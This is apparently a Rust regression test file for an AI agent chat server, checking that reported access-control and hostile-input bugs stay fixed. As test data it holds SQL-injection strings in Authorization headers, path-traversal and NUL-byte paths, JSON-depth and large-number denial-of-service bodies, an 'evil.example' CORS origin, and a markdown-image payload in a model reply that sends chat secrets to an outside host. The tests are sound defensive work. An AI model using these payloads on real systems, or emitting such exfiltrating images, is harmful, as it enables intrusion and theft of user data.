//! Reported failures of who may do what, and of hostile input, each by its id.
use serde_json::{Value, json};

use crate::{
    client::Client,
    place::{Place, Wishes},
};

async fn session(client: &Client) -> String {
    client.post("/sessions", json!({})).await.json()["id"].as_str().unwrap().to_owned()
}

/// Case: chat-continues-foreign-session.
#[tokio::test]
async fn chat_continues_foreign_session() {
    let place = Place::new().await;
    let theirs = session(&place.ada()).await;
    let unknown = json!({"sessionId": "00000000-0000-7000-8000-000000000000", "message": "hi"});
    let foreign = json!({"sessionId": theirs, "message": "hi"});
    let answers =
        [place.bob().post("/agent/chat", unknown).await, place.bob().post("/agent/chat", foreign).await];
    assert_eq!(answers[0].text(), answers[1].text());
    assert_eq!(answers[1].problem(), (404, "not_found".into()));
    assert_eq!(place.model.requests().len(), 0);
}

/// Case: stream-of-foreign-run.
#[tokio::test]
async fn stream_of_foreign_run() {
    let place = Place::new().await;
    let mouth = place.model.answer();
    mouth.say("half ");
    let mut own = place.ada().chat(json!({"message": "hi"})).await;
    let run = own.until_event("content").await[0].1["runId"].as_str().unwrap().to_owned();
    for position in [None, Some(format!("{run}:0")), Some(format!("{run}:1"))] {
        assert_eq!(place.bob().watch(&run, position.as_deref()).await.status, 404);
        assert_eq!(place.nobody().watch(&run, position.as_deref()).await.status, 401);
    }
    for (path, body) in [("stop", json!({})), ("approvals", json!({"callId": "c", "decision": "deny"}))] {
        let path = format!("/agent/runs/{run}/{path}");
        assert_eq!(place.bob().post(&path, body.clone()).await.status, 404);
        assert_eq!(place.nobody().post(&path, body).await.status, 401);
    }
    mouth.say("done");
    mouth.end();
    let rest = own.rest().await;
    assert_eq!(rest[0].1, json!({"type": "content", "content": "done", "offset": 5}));
    assert_eq!(rest.last().unwrap().1["state"], "done");
}

/// Case: caller-base-url-gets-server-key.
#[tokio::test]
async fn caller_base_url_gets_server_key() {
    let place = Place::new().await;
    for field in ["baseUrl", "base_url", "apiBase", "settings"] {
        let reply =
            place.ada().post("/agent/chat", json!({"message": "hi", field: "http://127.0.0.1:1"})).await;
        assert_eq!((reply.status, &reply.json()["fields"]), (422, &json!([field])));
    }
    assert_eq!(place.model.requests().len(), 0);
}

/// Case: deep-json-ends-process.
#[tokio::test]
async fn deep_json_ends_process() {
    let place = Place::new().await;
    for depth in [100, 128, 129, 5_000, 100_000] {
        for (open, close) in [("[", "]"), ("{\"a\":", "}")] {
            let inner = if open == "[" { "" } else { "1" };
            let nested = format!("{}{inner}{}", open.repeat(depth), close.repeat(depth));
            for (path, field) in [
                ("/sessions", "metadata"),
                ("/sessions", "x"),
                ("/agent/chat", "message"),
                ("/agent/execute", "input"),
            ] {
                let body = format!("{{\"{field}\":{nested}}}");
                let reply = place
                    .ada()
                    .send("POST", path, &[("content-type", "application/json")], body.as_bytes())
                    .await;
                assert_eq!(reply.problem(), (400, "text_rule".into()), "{path} {field} {depth}");
            }
        }
    }
    let nested = |depth: usize| format!("{}{}", "[".repeat(depth), "]".repeat(depth));
    let kept = format!("{{\"metadata\":{{\"x\":{}}}}}", nested(62));
    let made =
        place.ada().send("POST", "/sessions", &[("content-type", "application/json")], kept.as_bytes()).await;
    let id = made.json()["id"].as_str().unwrap().to_owned();
    assert_eq!(
        place.ada().get(&format!("/sessions/{id}")).await.json(),
        made.json(),
        "what is written can be read"
    );
}

#[tokio::test]
async fn deep_json_ends_process_numbers() {
    let place = Place::new().await;
    let send = async |metadata: String| {
        let body = format!("{{\"metadata\":{metadata}}}");
        place.ada().send("POST", "/sessions", &[("content-type", "application/json")], body.as_bytes()).await
    };
    for number in ["1e400", &"9".repeat(10_000), "123456789012345678901"] {
        let reply = send(format!("{{\"n\":{number}}}")).await;
        assert!([400, 422].contains(&reply.problem().0), "{number}");
    }
    for number in ["9007199254740993", "9223372036854775808", "-9223372036854775808", "0.5"] {
        let reply = send(format!("{{\"n\":{number}}}")).await;
        assert!(reply.text().contains(&format!("{{\"n\":{number}}}")), "{}", reply.text());
    }
    let long_key = send(format!("{{\"{}\":1}}", "k".repeat(1_000_000))).await;
    assert_eq!(long_key.status, 201);
    let many_unknown: String = (0..200_000).map(|n| format!("\"k{n}\":1,")).collect();
    let body = format!("{{{many_unknown}\"title\":\"a\"}}");
    let reply =
        place.ada().send("POST", "/sessions", &[("content-type", "application/json")], body.as_bytes()).await;
    assert_eq!(reply.status, 422);
    assert!(reply.body.len() < 4_000);
    let zipped = [("content-type", "application/json"), ("content-encoding", "gzip")];
    let reply = place.ada().send("POST", "/sessions", &zipped, &[0x1f, 0x8b, 8, 0, 0]).await;
    assert_eq!(reply.status, 400, "what is packed is not unpacked");
}

/// Case: nul-passes-sqlite-fails-postgres.
#[tokio::test]
async fn nul_passes_sqlite_fails_postgres() {
    let place = Place::new().await;
    let ada = place.ada();
    let id = session(&ada).await;
    let nul = "a\u{0}b";
    for (method, path, body, field) in [
        ("POST", "/sessions".to_owned(), json!({"title": nul}), "title"),
        ("POST", "/sessions".to_owned(), json!({"metadata": {"a": {nul: 1}}}), "metadata.a"),
        ("PATCH", format!("/sessions/{id}"), json!({"title": nul}), "title"),
        ("POST", "/agent/chat".to_owned(), json!({"message": nul}), "message"),
        (
            "POST",
            "/agent/chat".to_owned(),
            json!({"message": [{"type": "text", "text": nul}]}),
            "message[0].text",
        ),
    ] {
        let reply = ada.with_json(method, &path, body.clone()).await;
        assert_eq!(reply.problem(), (422, "text_rule".into()), "{body}");
        assert!(reply.json()["detail"].as_str().unwrap().starts_with(field), "{}", reply.text());
    }
    assert_eq!(ada.get("/search?q=a%00b").await.problem(), (422, "text_rule".into()));
    let mouth = place.model.answer();
    mouth.say(nul);
    mouth.end();
    let answer = ada.post("/agent/chat", json!({"message": "hi", "stream": false})).await.json();
    assert_eq!(answer["message"]["parts"], json!([{"type": "text", "text": "a\u{fffd}b"}]));
}

/// Case: search-text-is-query-syntax.
#[tokio::test]
async fn search_text_is_query_syntax() {
    let folder = tempfile::tempdir().unwrap();
    let storage = format!("sqlite:{}", folder.path().join("talk.db").display());
    let place = Place::with(Wishes { storage, ..Wishes::default() }).await;
    place
        .bob()
        .post("/agent/chat", json!({"message": "multi-agent title:secret 日本語", "stream": false}))
        .await;
    let said = "multi-agent: don't open café 日本語 title:secret";
    place.ada().post("/agent/chat", json!({"message": said, "stream": false})).await;
    let typed = [
        "multi-agent",
        "don't",
        "a:b",
        "\"open",
        "NEAR(a b)",
        "AND",
        "*",
        "-x",
        "(",
        "user_id:1",
        "title:secret",
        "🦀",
        "",
        "   ",
        "!?",
        "日本",
        "café",
        "cafe\u{301}",
        &"x".repeat(10_000),
    ];
    let mut found = Vec::new();
    for words in typed {
        let encoded: String = words.bytes().map(|b| format!("%{b:02x}")).collect();
        let reply = place.ada().get(&format!("/search?q={encoded}")).await;
        assert_eq!(reply.status, 200, "{words}: {}", reply.text());
        let results = reply.json()["results"].as_array().unwrap().clone();
        assert!(results.len() <= 1, "only her own: {results:?}");
        if !results.is_empty() {
            found.push(words);
        }
    }
    for words in ["multi-agent", "don't", "title:secret", "日本", "café", "cafe\u{301}"] {
        assert!(found.contains(&words), "{words} is not in {found:?}");
    }
}

/// Case: any-origin-with-credentials
#[tokio::test]
async fn any_origin_with_credentials() {
    let place = Place::new().await;
    for origin in ["https://evil.example", "null", "http://127.0.0.1"] {
        let ask = [("origin", origin), ("access-control-request-method", "POST")];
        for (method, headers) in [("GET", &ask[..1]), ("OPTIONS", &ask[..])] {
            let reply = place.ada().send(method, "/sessions", headers, b"").await;
            assert_eq!(reply.header("access-control-allow-origin"), None);
            assert_eq!(reply.header("access-control-allow-credentials"), None);
        }
    }
    for kind in ["text/plain", "application/x-www-form-urlencoded", ""] {
        let reply = place.ada().send("POST", "/sessions", &[("content-type", kind)], b"{}").await;
        assert_eq!(reply.problem(), (415, "unsupported_media_type".into()));
    }
    let overridden = [("x-http-method-override", "DELETE"), ("content-type", "application/json")];
    assert_eq!(place.ada().send("POST", "/sessions", &overridden, b"{}").await.status, 201);
}

/// Case: sql-through-authorization-header.
#[tokio::test]
async fn sql_through_authorization_header() {
    let place = Place::new().await;
    let long = "x".repeat(8 * 1024 + 1);
    for value in [
        "Bearer ' OR '1'='1",
        "Bearer x'--",
        &format!("Bearer {long}"),
        "Bearer \u{e9}",
        "Basic YTpi",
        "bearer",
        "",
    ] {
        let reply = place.nobody().send("GET", "/sessions", &[("authorization", value)], b"").await;
        assert_eq!(reply.problem(), (401, "unauthorized".into()), "{value:.20}");
    }
    let twice = [("authorization", "Bearer ada-token"), ("authorization", "Bearer ada-token")];
    assert_eq!(place.nobody().send("GET", "/sessions", &twice, b"").await.status, 401);
    let lower = [("authorization", "bearer ada-token")];
    assert_eq!(place.nobody().send("GET", "/sessions", &lower, b"").await.status, 200);
    assert!(!place.nobody().get("/metrics").await.text().contains("1'='1"));
}

/// Case: path-decoding-disagreement.
#[tokio::test]
async fn path_decoding_disagreement() {
    let place = Place::new().await;
    for path in [
        "/users/%6de",
        "/%75sers/me",
        "/api//users/me",
        "/users/me/",
        "/users/./me",
        "/users/x/..%2fme",
        "/USERS/ME",
        "/users/%2e%2e/me",
        "/users/me%00",
        "/users/me;a=b",
        "/users/%256de",
        "//users/me",
    ] {
        let reply = place.nobody().get(path).await;
        assert!([401, 404].contains(&reply.problem().0), "{path} {}", reply.status);
        assert!([200, 404].contains(&place.ada().get(path).await.status), "{path}");
    }
    let metrics = place.nobody().get("/metrics").await.text();
    assert!(!metrics.contains("%6de") && !metrics.contains("USERS"), "{metrics}");
}

/// Case: markdown-image-sends-chat-away.
#[tokio::test]
async fn markdown_image_sends_chat_away() {
    let place = Place::new().await;
    let planted = "![x](http://127.0.0.1:9/p?d=SECRET) <img src=//evil>";
    let mouth = place.model.answer();
    mouth.say(planted);
    mouth.end();
    let reply = place.ada().post("/agent/chat", json!({"message": "hi", "stream": false})).await;
    assert_eq!(reply.json()["message"]["parts"], json!([{"type": "text", "text": planted}]));
    let policy = reply.header("content-security-policy").unwrap();
    assert!(policy.contains("default-src 'none'"), "{policy}");
    for title in ["a\nb", &"x".repeat(201), "", "\u{1b}[31mred"] {
        assert_eq!(place.ada().post("/sessions", json!({"title": title})).await.status, 422, "{title:?}");
    }
}

/// Case: upstream-error-shows-key.
#[tokio::test]
async fn upstream_error_shows_key() {
    let place = Place::new().await;
    let reply = place.ada().post("/agent/chat", json!({"message": "hi", "model": "elsewhere/none"})).await;
    assert_eq!(reply.problem(), (404, "model_unknown".into()));
    let secret = "sk-abcdefghijklmnopqrstuvwxyz0123";
    let made = place
        .ada()
        .post("/sessions", json!({"title": format!("key {secret}"), "metadata": {"k": secret}}))
        .await;
    assert_eq!(made.status, 201);
    assert!(!made.text().contains(secret), "{}", made.text());
    let asked = place
        .ada()
        .post("/agent/chat", json!({"message": format!("my key is {secret}"), "stream": false}))
        .await;
    let session = asked.json()["sessionId"].as_str().unwrap().to_owned();
    let stored = place.ada().get(&format!("/sessions/{session}/messages")).await;
    assert!(!stored.text().contains(secret) && !place.ada().get("/sessions").await.text().contains(secret));
    let _: Value = stored.json();
}
